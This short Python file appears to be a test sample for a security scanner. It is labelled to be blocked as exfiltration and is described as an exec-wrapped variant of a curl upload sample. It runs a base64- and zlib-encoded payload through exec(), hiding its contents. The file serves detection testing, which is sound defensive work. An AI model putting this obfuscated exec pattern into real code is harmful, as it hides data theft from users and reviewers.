# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/curl_upload.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwVy7EKgzAQBuA9T/Gjg+3gndapQqGTdJfORWpKQpULuZPi2xfnj6/EMy0yzQoLHlnEMI4PfP2OX7SA95YXcnFNkg2izomS7mp+PRWHoVbUA6rP7c7HZlINHOdX1qlCMEvaM1+ajhpq246uvBXnP/wBJQI=')))
